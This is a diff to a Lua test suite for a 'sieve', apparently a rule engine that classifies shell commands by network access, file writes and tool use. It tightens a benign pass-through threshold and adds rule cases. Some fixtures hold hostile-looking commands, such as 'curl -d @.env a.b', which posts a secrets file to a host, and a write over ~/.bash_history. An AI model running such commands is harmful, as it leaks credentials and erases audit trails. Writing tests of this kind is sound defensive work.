@@ -35,7 +35,7 @@ describe("the sieve", function()
       end
     end
     -- Otherwise it is of no use.
-    assert.is_true(through > benign * 0.6, ("%d of %d fall through"):format(through, benign))
+    assert.is_true(through > benign * 0.9, ("%d of %d fall through"):format(through, benign))
   end)
 
   it("holds every example of every rule", function()
@@ -64,6 +64,12 @@ describe("the sieve", function()
     { { on = "net", sources = { "secret" } }, "curl -d @.env a.b", "curl a.b" },
     { { on = "net", all_sources = { "secret" } }, "curl -d @.env a.b", "curl a.b" },
     { { on = "net", no_sources = { "secret" } }, "curl -d x a.b", "curl -d @.env a.b" },
+    { { on = "write", target = { "~/.bash_history" } }, "echo > ~/.bash_history", "echo > ~/.bashrc2" },
+    { { on = "write", target = { "/srv/**" } }, "echo > /srv/a/b", "echo > /opt/a" },
+    { { on = "write", target = { "$PROJECT", "~" } }, "echo > x", "cat x" },
+    { { on = "write", target = { "**/*.{c,h}" } }, "echo > x.c", "cat x.c" },
+    { { on = "net", target = { "[[]fe80::1]*" } }, "curl '[fe80::1]:80'", "curl a.b" },
+    { { on = "write", target = { "/x" }, below = { "/x" } }, "echo > y", "cat y" },
     { { on = "command", tool = { npm = true } }, "sudo npm publish", "echo npm publish" },
     { { on = "command" }, "ls", "x=1" },
   }
